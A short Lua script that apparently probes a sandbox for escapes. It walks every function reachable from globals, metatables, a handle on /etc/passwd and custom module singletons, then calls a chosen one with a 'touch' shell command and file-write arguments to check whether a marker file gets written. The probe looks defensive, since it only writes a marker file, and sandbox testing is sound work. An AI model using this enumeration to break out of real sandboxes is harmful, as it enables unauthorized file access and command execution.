-- Calls the n-th of all functions that can be reached, in every way that could write `mark`, or lists them.
local mark, chosen = os.getenv("MARK"), tonumber(os.getenv("CHOSEN"))
local list, seen, queue = {}, {}, {}
local function add(path, value)
    local kind = type(value)
    if kind ~= "table" and kind ~= "function" and kind ~= "userdata" and kind ~= "thread" then return end
    if not seen[value] then
        seen[value] = true
        queue[#queue + 1] = { path, value }
    end
end
add("_G", _G)
add("string", "")
add("file", io.open("/etc/passwd"))
add("sink", io.open(mark, "w"))
add("failure", select(2, pcall(isDir, {})))
add("coroutine", coroutine.create(print))
for _, name in ipairs({ "MT", "FrameStk", "Cosmic" }) do add(name, require(name):singleton()) end
add("MName", require("MName"):new("load", "w"))
local at = 1
while queue[at] do
    local path, value = queue[at][1], queue[at][2]
    at = at + 1
    if type(value) == "function" then list[#list + 1] = { path, value } end
    if type(value) == "table" then
        for key, inner in next, value do add(path .. "." .. tostring(key), inner) end
    end
    local meta = getmetatable(value)
    add(path .. ".<metatable>", meta)
    if type(value) == "table" and type(meta) == "table" and type(meta.__index) == "function" then
        for name in string.gmatch("_G os io load debug package host own basic", "%S+") do
            for _, self in ipairs({ false, value }) do
                local got, inner = pcall(meta.__index, self or nil, name)
                if got then add(path .. "." .. name, inner) end
            end
        end
    end
end
table.sort(list, function(a, b) return a[1] < b[1] end)
setenv("COUNT", #list)
if chosen then
    setenv("NAME", list[chosen][1])
    local touch, meta = "touch " .. mark, { __tostring = function() return "w" end }
    for _, words in ipairs({ { touch }, { mark, "w" }, { mark, "a" }, { mark, "r+" }, { mark, setmetatable({}, meta) },
                             { mark }, { "x", mark }, { "w", mark }, { nil, mark }, { { mark } }, { mark, mark },
                             { { cmd = touch, modeA = { "load" } } }, { function() return touch end } }) do
        pcall(list[chosen][2], table.unpack(words, 1, 2))
    end
end
